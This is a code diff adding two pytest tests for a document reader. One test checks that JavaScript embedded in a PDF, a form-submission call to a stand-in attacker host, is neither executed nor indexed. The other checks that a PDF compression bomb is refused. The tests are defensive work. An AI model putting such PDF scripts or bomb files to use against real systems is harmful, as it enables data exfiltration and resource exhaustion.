@@ -77,6 +77,24 @@ def test_pdf_text_is_extracted(tmp_path):
     assert "15 days per year" in doc.text
 
 
+def test_a_pdfs_script_is_neither_run_nor_indexed(tmp_path):
+    path = tmp_path / "form.pdf"
+    write_pdf(path, ["Expense form", "Submit within 30 days."],
+              script="app.alert('pwned'); this.submitForm('http://evil.example')")
+    doc = read_document(path, tmp_path)
+    assert "30 days" in doc.text
+    assert "alert" not in doc.text and "evil" not in doc.text
+
+
+def test_a_pdf_compression_bomb_is_refused_before_it_expands(tmp_path):
+    path = tmp_path / "bomb.pdf"
+    write_pdf(path, ["Harmless title"], padding_mb=100)  # 100 MB from ~100 KB
+    assert path.stat().st_size < 2 * 1024 * 1024
+    with pytest.raises(DocumentError, match="compression bomb") as raised:
+        read_document(path, tmp_path)
+    assert "bomb.pdf" in str(raised.value)
+
+
 @pytest.mark.parametrize(
     "name, content, message",
     [
